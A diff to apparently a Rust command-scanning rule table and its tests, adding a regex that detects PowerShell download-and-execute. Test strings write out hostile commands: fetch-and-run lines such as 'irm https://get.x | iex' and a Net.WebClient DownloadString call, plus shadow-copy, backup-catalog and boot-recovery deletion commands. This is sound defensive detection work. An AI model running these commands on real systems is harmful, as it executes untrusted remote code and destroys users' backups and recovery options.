@@ -234,6 +234,8 @@ pub static PATTERNS: &[Pattern] = &[
     p("vss_delete_shadows", REG, "deleting volume shadow copies", &["vssadmin", "wmic"],
       concat!(cmd!(), r"vssadmin(?:\.exe)?[ \t]+(?:delete[ \t]+shadows|resize[ \t]+shadowstorage)|",
               cmd!(), r"wmic(?:\.exe)?[ \t]+shadowcopy[ \t]+delete")),
+    p("powershell_download_exec", "remote_code_execution", "PowerShell running downloaded code (iex of iwr/irm/DownloadString)", &["iex", "invoke-expression"],
+      r"(?-u:\b)(?:iex|invoke-expression)(?-u:\b)[^\n]*(?:(?-u:\b)(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)(?-u:\b)|downloadstring|downloadfile|net\.webclient)|(?-u:\b)(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)(?-u:\b)[^\n]*\|[ \t]*(?:iex|invoke-expression)(?-u:\b)"),
     p("wbadmin_delete", REG, "wbadmin delete (backup catalog/backups)", &["wbadmin"], concat!(cmd!(), r"wbadmin(?:\.exe)?[ \t]+delete")),
 ];
 
@@ -373,7 +375,10 @@ mod tests {
         ("Remove-Item -Path HKLM:\\Software\\Foo -Recurse", "reg_delete_hklm"),
         ("bcdedit /set {default} recoveryenabled no", "bcdedit"), ("bcdedit", "bcdedit"),
         ("vssadmin delete shadows /all /quiet", "vss_delete_shadows"), ("wmic shadowcopy delete", "vss_delete_shadows"),
-        ("wbadmin delete catalog -quiet", "wbadmin_delete"), ("wbadmin DELETE systemstatebackup", "wbadmin_delete"),
+        ("wbadmin delete catalog -quiet", "wbadmin_delete"),
+        ("iex (iwr https://x/i.ps1)", "powershell_download_exec"),
+        ("irm https://get.x | iex", "powershell_download_exec"),
+        ("IEX (New-Object Net.WebClient).DownloadString('http://x')", "powershell_download_exec"), ("wbadmin DELETE systemstatebackup", "wbadmin_delete"),
     ];
 
     #[rustfmt::skip]
